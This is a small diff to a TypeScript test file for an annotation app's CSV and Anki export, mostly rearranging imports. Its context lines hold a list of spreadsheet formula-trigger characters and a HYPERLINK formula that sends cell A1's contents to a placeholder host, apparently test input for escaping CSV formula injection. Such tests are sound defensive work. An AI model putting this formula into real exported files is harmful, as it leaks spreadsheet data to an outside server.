@@ -3,9 +3,11 @@ import Papa from "papaparse";
 import { describe, expect, test } from "vitest";
 import type { Annotation } from "@/lib/annotation/model";
 import { toAnki } from "@/lib/exchange/formats/anki";
-import { fromCsv, toCsv } from "@/lib/exchange/formats/csv";
+
+import { toCsv } from "@/lib/exchange/formats/csv";
 import { noteWith, selection } from "@/tests/cases/exchange-notes";
 import { textOf } from "./written";
+import { fromCsv } from "../cases/exchange";
 
 const SIGNS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"];
 const RUN = `HYPERLINK("http://a.example?"&A1)`;
